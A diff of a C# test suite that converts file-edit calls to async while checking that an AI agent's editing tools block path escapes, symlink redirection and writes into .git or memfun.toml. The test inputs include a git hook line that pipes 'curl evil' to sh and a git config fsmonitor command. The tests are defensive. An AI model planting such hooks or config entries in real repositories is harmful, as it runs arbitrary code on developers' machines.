@@ -71,8 +71,8 @@ public sealed class PathConfinementTests : IDisposable
         var tools = RepositoryTools.Editing(new ToolContext { ProjectRoot = _project.Path, Edits = edits }).ToDictionary(t => t.Name);
 
         var write = await Assert.ThrowsAsync<SecurityException>(async () => await tools["write_file"].Function(Call(path, "PWNED"), _ct));
-        var edit = Assert.Throws<SecurityException>(() => edits.Edit(path, "OUTSIDE", "PWNED"));
-        await edits.ApplyAsync(_ct);
+        var edit = await Assert.ThrowsAsync<SecurityException>(() => edits.EditAsync(path, "OUTSIDE", "PWNED", _ct));
+        await edits.ApplyAsync(cancellationToken: _ct);
 
         Assert.Equal(MemfunErrorCodes.SecurityPathEscape, write.ErrorCode);
         Assert.Equal(MemfunErrorCodes.SecurityPathEscape, edit.ErrorCode);
@@ -86,10 +86,10 @@ public sealed class PathConfinementTests : IDisposable
         // The old apply wrote <file>.memfun-tmp and renamed it: a link planted there redirected the write.
         File.CreateSymbolicLink(_project.Combine("src/x.py.memfun-tmp"), _outside.Combine("top.txt"));
         var edits = new PendingEdits(_project.Path);
-        edits.Edit("src/x.py", "x = 1", "x = 2");
+        await edits.EditAsync("src/x.py", "x = 1", "x = 2", _ct);
 
-        var diff = await edits.DiffAsync(_ct);
-        await edits.ApplyAsync(_ct);
+        var diff = await edits.DiffAsync(cancellationToken: _ct);
+        await edits.ApplyAsync(cancellationToken: _ct);
 
         Assert.Equal("x = 2\n", File.ReadAllText(_project.Combine("src/x.py")));
         Assert.Null(new FileInfo(_project.Combine("src/x.py")).LinkTarget);
@@ -103,15 +103,15 @@ public sealed class PathConfinementTests : IDisposable
     [InlineData(".git/hooks/pre-commit")]
     [InlineData(".GIT/config")]
     [InlineData("memfun.toml")]
-    public void StagedWrites_ToGitAndMemfunToml_FailWhenStaged(string path)
+    public async Task StagedWrites_ToGitAndMemfunToml_FailWhenStaged(string path)
     {
         _project.WriteFile(".git/config", "[core]\n");
         _project.WriteFile(".git/hooks/pre-commit", "#!/bin/sh\n");
         _project.WriteFile("memfun.toml", "[llm]\n");
         var edits = new PendingEdits(_project.Path);
 
-        var write = Assert.Throws<SecurityException>(() => edits.Write(path, "[core]\n\tfsmonitor = touch /tmp/pwned\n"));
-        var edit = Assert.Throws<SecurityException>(() => edits.Edit(path, "[", "#["));
+        var write = await Assert.ThrowsAsync<SecurityException>(() => edits.WriteAsync(path, "[core]\n\tfsmonitor = touch /tmp/pwned\n", _ct));
+        var edit = await Assert.ThrowsAsync<SecurityException>(() => edits.EditAsync(path, "[", "#[", _ct));
 
         Assert.Equal(MemfunErrorCodes.SecurityDenied, write.ErrorCode);
         Assert.Equal(MemfunErrorCodes.SecurityDenied, edit.ErrorCode);
@@ -125,17 +125,17 @@ public sealed class PathConfinementTests : IDisposable
         _project.CreateDirectory("hooks");
         _project.CreateDirectory("sub");
         var edits = new PendingEdits(_project.Path);
-        edits.Write("a-first.txt", "first\n");
-        edits.Write("hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
-        edits.Write("sub/x.py", "PWNED\n");
+        await edits.WriteAsync("a-first.txt", "first\n", _ct);
+        await edits.WriteAsync("hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", _ct);
+        await edits.WriteAsync("sub/x.py", "PWNED\n", _ct);
         Directory.Delete(_project.Combine("hooks"));
         Directory.CreateSymbolicLink(_project.Combine("hooks"), ".git/hooks");
 
-        var intoGit = await Assert.ThrowsAsync<SecurityException>(() => edits.ApplyAsync(_ct));
+        var intoGit = await Assert.ThrowsAsync<SecurityException>(() => edits.ApplyAsync(cancellationToken: _ct));
         Directory.Delete(_project.Combine("hooks"));
         Directory.Delete(_project.Combine("sub"));
         Directory.CreateSymbolicLink(_project.Combine("sub"), _outside.Path);
-        var outside = await Assert.ThrowsAsync<SecurityException>(() => edits.ApplyAsync(_ct));
+        var outside = await Assert.ThrowsAsync<SecurityException>(() => edits.ApplyAsync(cancellationToken: _ct));
 
         Assert.Equal(MemfunErrorCodes.SecurityDenied, intoGit.ErrorCode);
         Assert.Equal(MemfunErrorCodes.SecurityPathEscape, outside.ErrorCode);
@@ -151,10 +151,10 @@ public sealed class PathConfinementTests : IDisposable
         Directory.CreateSymbolicLink(_project.Combine("docs"), "real/docs");
         var edits = new PendingEdits(_project.Path);
 
-        edits.Edit("docs/a.md", "one", "two");
-        edits.Write("docs/new.md", "new\n");
-        var diff = await edits.DiffAsync(_ct);
-        await edits.ApplyAsync(_ct);
+        await edits.EditAsync("docs/a.md", "one", "two", _ct);
+        await edits.WriteAsync("docs/new.md", "new\n", _ct);
+        var diff = await edits.DiffAsync(cancellationToken: _ct);
+        await edits.ApplyAsync(cancellationToken: _ct);
 
         Assert.Equal("two\n", edits.Read("docs/a.md"));
         Assert.Equal(["real/docs/a.md", "real/docs/new.md"], edits.Paths);
